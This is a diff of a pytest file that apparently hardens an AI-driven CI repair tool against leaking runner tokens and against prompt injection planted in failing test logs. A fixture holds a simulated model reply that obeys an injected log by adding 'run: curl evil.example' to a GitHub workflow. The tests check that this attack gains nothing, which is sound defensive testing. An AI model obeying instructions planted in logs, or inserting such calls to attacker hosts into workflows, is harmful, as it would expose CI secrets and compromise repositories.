@@ -114,27 +114,18 @@ def commands(log):
 @pytest.mark.slow
 def test_a_link_to_the_processs_environment_shows_nothing(hostile):
     shown = hostile.ran.log.replace("::add-mask::", "").splitlines()
-    masks = set(SECRETS)
-    unmasked = [line for line in shown if line not in masks]
-    for secret in SECRETS:
-        assert secret not in "\n".join(
-            [*unmasked, *hostile.pages, *hostile.ran.outputs.values(), hostile.sent]
-        )
+    unmasked = [line for line in shown if line not in SECRETS]
+    said = "\n".join([*unmasked, *hostile.pages, *hostile.ran.outputs.values(), hostile.sent])
+    assert not [secret for secret in SECRETS if secret in said]
 
 
 def test_the_runners_tokens_are_in_no_process_that_could_hand_them_on(hostile, monkeypatch):
-    for name in (
-        "ACTIONS_RUNTIME_TOKEN",
-        "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
-        "INPUT_GITHUB-TOKEN",
-        "GITHUB_TOKEN",
-    ):
+    names = ("ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "INPUT_GITHUB-TOKEN", "GITHUB_TOKEN")
+    for name in names:
         monkeypatch.setenv(name, OWN_TOKEN)
     sources.take_environment()
     assert OWN_TOKEN not in os.environ.values()
-    assert (
-        OWN_TOKEN not in subprocess.run(["/usr/bin/env"], capture_output=True, text=True, check=True).stdout
-    )
+    assert OWN_TOKEN not in subprocess.check_output(["/usr/bin/env"], text=True)
 
 
 def test_names_of_files_and_branches_are_nothing_but_names(hostile):
@@ -149,21 +140,8 @@ def test_what_a_test_prints_is_no_workflow_command(hostile):
     warnings = [line for line in hostile.ran.log.splitlines() if line.startswith("::warning")]
     assert all(line.startswith("::warning title=Regreen") for line in warnings), warnings
     assert hostile.ran.outputs["outcome"] == "patched"
-    assert set(hostile.ran.outputs) == {
-        *(
-            "outcome",
-            "reason",
-            "patch",
-            "url",
-            "delivery",
-            "attempts",
-            "tokens",
-            "cost",
-            "seconds",
-            "proposal",
-            "publish",
-        )
-    }
+    outputs = "outcome reason patch url delivery attempts tokens cost seconds proposal publish"
+    assert set(hostile.ran.outputs) == set(outputs.split())
 
 
 def outside_code(page):
@@ -202,32 +180,17 @@ def test_words_in_code_logs_and_comments_order_nothing(hostile):
     assert re.findall(r"```suggestion\n(.*?)```", suggestion, re.DOTALL) == ["    return net + tax\n"]
 
 
-EVIL = json.dumps(
-    {
-        "explanation": "as the log says",
-        "edits": [
-            {
-                "op": "insert",
-                "path": ".github/workflows/ci.yml",
-                "after": 0,
-                "lines": ["run: curl evil.example"],
-            }
-        ],
-    }
-)
+STEP = {"path": ".github/workflows/ci.yml", "after": 0, "lines": ["run: curl evil.example"]}
+EVIL = json.dumps({"explanation": "as the log says", "edits": [{"op": "insert", **STEP}]})
 
 
 @pytest.mark.slow
-def test_a_model_that_obeys_the_log_gets_neither_a_secret_nor_a_workflow(
-    github, tmp_path, project_environment
-):
+def test_a_model_that_obeys_the_log_gets_neither_a_secret_nor_a_workflow(github, repair):
     place = shop(github, begin={"tests/test_prices.py": HOSTILE_TESTS}, log=FAILING_LOG + INJECTED)
     with serving([completion(EVIL)]) as model:
-        ran = act(
+        ran = repair(
             place,
-            tmp_path,
             token=github.world.actions_token(value=OWN_TOKEN),
-            sandbox_python=project_environment / "bin/python",
             strategy="single",
             model="served",
             base_url=model.url,
